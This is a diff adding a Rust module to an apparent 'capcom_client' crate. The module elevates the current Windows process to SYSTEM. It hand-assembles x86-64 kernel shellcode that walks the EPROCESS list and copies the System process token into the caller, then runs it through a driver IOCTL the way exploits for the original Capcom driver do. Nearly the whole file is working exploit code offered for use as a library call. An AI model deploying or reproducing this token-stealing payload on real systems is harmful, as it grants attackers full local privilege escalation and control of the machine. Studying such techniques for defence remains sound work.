@@ -0,0 +1,224 @@
+//! Elevation of the current process to SYSTEM over [`IOCTL_RUN_PAYLOAD`], the
+//! way exploits for the original driver do it. A payload copies the token of
+//! the System process into the `EPROCESS` of the current process, which it
+//! finds by walking the list of active processes with the offsets from
+//! `IOCTL_GET_OFFSETS`. [`elevate_current_process`] does it all in one call.
+//!
+//! ```no_run
+//! capcom_client::elevate_current_process()?;
+//! assert!(capcom_client::elevate::is_system()?);
+//! # anyhow::Ok(())
+//! ```
+
+use std::{env, ffi::CStr, io, process, ptr};
+
+use anyhow::{Result, ensure};
+use capcom_abi::{
+    CAPABILITY_RUN_PAYLOAD, CLASS_EXECUTE, CLASS_KERNEL_MEMORY, IOCTL_RUN_PAYLOAD, KernelOffsets,
+};
+use windows_sys::Win32::{
+    Foundation::{
+        CloseHandle, ERROR_ACCESS_DENIED, ERROR_NOT_FOUND, ERROR_NOT_SUPPORTED, FreeLibrary, HANDLE,
+    },
+    Security::{
+        GetTokenInformation, IsWellKnownSid, TOKEN_QUERY, TOKEN_USER, TokenUser, WinLocalSystemSid,
+    },
+    System::{
+        LibraryLoader::{DONT_RESOLVE_DLL_REFERENCES, GetProcAddress, LoadLibraryExW},
+        Memory::{
+            MEM_COMMIT, MEM_RELEASE, MEM_RESERVE, PAGE_EXECUTE_READWRITE, VirtualAlloc, VirtualFree,
+        },
+        Threading::{GetCurrentProcess, OpenProcessToken},
+    },
+};
+
+use crate::{Device, symbols};
+
+/// The offset of the body of an object from its `OBJECT_HEADER`, whose first
+/// field is `PointerCount`.
+const OBJECT_HEADER_SIZE: u8 = 0x30;
+
+/// Elevates the current process to SYSTEM: opens the device, negotiates the
+/// classes [`steal_system_token`] needs, takes the offsets from
+/// `IOCTL_GET_OFFSETS`, or resolves them from the PDB of ntoskrnl.exe cached
+/// in the temporary directory if the driver has none for the running build,
+/// runs the payload, and checks the resulting token with [`is_system`].
+///
+/// # Errors
+///
+/// Returns `ERROR_NOT_SUPPORTED` if the driver cannot run the payload, e.g.,
+/// with HVCI enabled or on ARM64, `ERROR_ACCESS_DENIED` if the classes are
+/// disabled, or an error if the offsets cannot be resolved, the payload fails,
+/// or the token is not of `SYSTEM` afterwards.
+pub fn elevate_current_process() -> Result<()> {
+    let device = Device::open()?;
+    if device.get_version()?.capabilities & CAPABILITY_RUN_PAYLOAD == 0 {
+        return Err(io::Error::from_raw_os_error(ERROR_NOT_SUPPORTED.cast_signed()).into());
+    }
+    let classes = CLASS_EXECUTE | CLASS_KERNEL_MEMORY;
+    if device.negotiate(classes)?.granted_classes & classes != classes {
+        return Err(io::Error::from_raw_os_error(ERROR_ACCESS_DENIED.cast_signed()).into());
+    }
+    let offsets = match device.get_offsets() {
+        Ok(offsets) if offsets.eprocess_token != 0 => offsets,
+        _ => symbols::resolve_offsets(&env::temp_dir().join("symbols"))?,
+    };
+    steal_system_token(&device, &offsets)?;
+    ensure!(is_system()?, "the token of the process is not of SYSTEM");
+    Ok(())
+}
+
+/// Replaces the token of the current process with that of the System process,
+/// with a payload sent over `device` with [`IOCTL_RUN_PAYLOAD`]. `offsets`
+/// must have the offsets of `EPROCESS` for the running build, e.g., those
+/// `IOCTL_GET_OFFSETS` returns. The reference count of the token is
+/// incremented, so it is not released early when the process exits.
+///
+/// The payload is x86-64 code in a page allocated for it, and preceded by its
+/// own address as tools written for the original driver do.
+///
+/// # Errors
+///
+/// Returns `ERROR_NOT_SUPPORTED` if `offsets` lack any of the offsets, an
+/// error if the handle was not granted `CLASS_EXECUTE` and
+/// `CLASS_KERNEL_MEMORY`, or the payload is refused, e.g., with HVCI enabled
+/// or on ARM64.
+pub fn steal_system_token(device: &Device, offsets: &KernelOffsets) -> io::Result<()> {
+    if offsets.eprocess_token == 0
+        || offsets.eprocess_unique_process_id == 0
+        || offsets.eprocess_active_process_links == 0
+    {
+        return Err(io::Error::from_raw_os_error(
+            ERROR_NOT_SUPPORTED.cast_signed(),
+        ));
+    }
+    let system_process = kernel_export(device, c"PsInitialSystemProcess")?;
+    let code = token_steal_code(system_process, offsets, process::id());
+
+    let page = unsafe {
+        VirtualAlloc(
+            ptr::null(),
+            0x1000,
+            MEM_COMMIT | MEM_RESERVE,
+            PAGE_EXECUTE_READWRITE,
+        )
+    };
+    if page.is_null() {
+        return Err(io::Error::last_os_error());
+    }
+    let payload = page.addr() + size_of::<usize>();
+    unsafe {
+        page.cast::<usize>().write(payload);
+        ptr::copy_nonoverlapping(
+            code.as_ptr(),
+            page.cast::<u8>().add(size_of::<usize>()),
+            code.len(),
+        );
+    }
+    // Clients of the original driver give a 4-byte output buffer.
+    let mut output = [0u8; 4];
+    let result = device.ioctl(IOCTL_RUN_PAYLOAD, &payload.to_ne_bytes(), &mut output);
+    let _ = unsafe { VirtualFree(page, 0, MEM_RELEASE) };
+    let _ = result?;
+    Ok(())
+}
+
+/// Checks whether the token of the current process is that of `SYSTEM`.
+///
+/// # Errors
+///
+/// Returns an error if the token cannot be queried.
+pub fn is_system() -> io::Result<bool> {
+    let mut token: HANDLE = ptr::null_mut();
+    if unsafe { OpenProcessToken(GetCurrentProcess(), TOKEN_QUERY, &raw mut token) } == 0 {
+        return Err(io::Error::last_os_error());
+    }
+    // `TOKEN_USER` is followed by the SID it points to.
+    let mut buffer = [0u64; 16];
+    let mut length = 0;
+    let succeeded = unsafe {
+        GetTokenInformation(
+            token,
+            TokenUser,
+            buffer.as_mut_ptr().cast(),
+            size_of_val(&buffer) as u32,
+            &raw mut length,
+        )
+    };
+    let result = if succeeded == 0 {
+        Err(io::Error::last_os_error())
+    } else {
+        let user = unsafe { buffer.as_ptr().cast::<TOKEN_USER>().read() };
+        Ok(unsafe { IsWellKnownSid(user.User.Sid, WinLocalSystemSid) } != 0)
+    };
+    let _ = unsafe { CloseHandle(token) };
+    result
+}
+
+/// Returns the code of the payload that finds the process with `process_id`
+/// from the System process at `*system_process`, and copies the token of the
+/// System process into it. It returns 1 in RAX if found, or 0.
+fn token_steal_code(system_process: u64, offsets: &KernelOffsets, process_id: u32) -> Vec<u8> {
+    let token = offsets.eprocess_token.to_le_bytes();
+    let links = offsets.eprocess_active_process_links.to_le_bytes();
+    let unique_process_id = offsets.eprocess_unique_process_id.to_le_bytes();
+
+    let mut code = Vec::new();
+    // `mov rax, system_process`
+    code.extend([0x48, 0xb8]);
+    code.extend(system_process.to_le_bytes());
+    // `mov rax, [rax]`
+    code.extend([0x48, 0x8b, 0x00]);
+    // `mov rdx, [rax + token]`
+    code.extend([0x48, 0x8b, 0x90]);
+    code.extend(token);
+    // `and rdx, -16`, as the token is referenced with `EX_FAST_REF`, which
+    // keeps a count in the low 4 bits.
+    code.extend([0x48, 0x83, 0xe2, 0xf0]);
+    // `mov rcx, rax`
+    code.extend([0x48, 0x89, 0xc1]);
+    // next: `mov rcx, [rcx + links]`
+    code.extend([0x48, 0x8b, 0x89]);
+    code.extend(links);
+    // `sub rcx, links`
+    code.extend([0x48, 0x81, 0xe9]);
+    code.extend(links);
+    // `cmp qword [rcx + unique_process_id], process_id`
+    code.extend([0x48, 0x81, 0xb9]);
+    code.extend(unique_process_id);
+    code.extend(process_id.to_le_bytes());
+    // `je found`
+    code.extend([0x74, 0x08]);
+    // `cmp rcx, rax`
+    code.extend([0x48, 0x39, 0xc1]);
+    // `jne next`
+    code.extend([0x75, 0xe0]);
+    // `xor eax, eax; ret`
+    code.extend([0x31, 0xc0, 0xc3]);
+    // found: `lock inc qword [rdx - OBJECT_HEADER_SIZE]`
+    code.extend([0xf0, 0x48, 0xff, 0x42, OBJECT_HEADER_SIZE.wrapping_neg()]);
+    // `mov [rcx + token], rdx`
+    code.extend([0x48, 0x89, 0x91]);
+    code.extend(token);
+    // `mov eax, 1; ret`
+    code.extend([0xb8, 0x01, 0x00, 0x00, 0x00, 0xc3]);
+    code
+}
+
+/// Returns the address of `name` exported from ntoskrnl.exe, found in the image
+/// loaded into this process and the base of the kernel `device` returns.
+fn kernel_export(device: &Device, name: &CStr) -> io::Result<u64> {
+    let kernel = device.get_module(None)?;
+    let path: Vec<u16> = "ntoskrnl.exe".encode_utf16().chain([0]).collect();
+    let module =
+        unsafe { LoadLibraryExW(path.as_ptr(), ptr::null_mut(), DONT_RESOLVE_DLL_REFERENCES) };
+    if module.is_null() {
+        return Err(io::Error::last_os_error());
+    }
+    let address = unsafe { GetProcAddress(module, name.as_ptr().cast()) };
+    let _ = unsafe { FreeLibrary(module) };
+    let Some(address) = address else {
+        return Err(io::Error::from_raw_os_error(ERROR_NOT_FOUND.cast_signed()));
+    };
+    Ok(kernel.base + (address as usize - module.addr()) as u64)
+}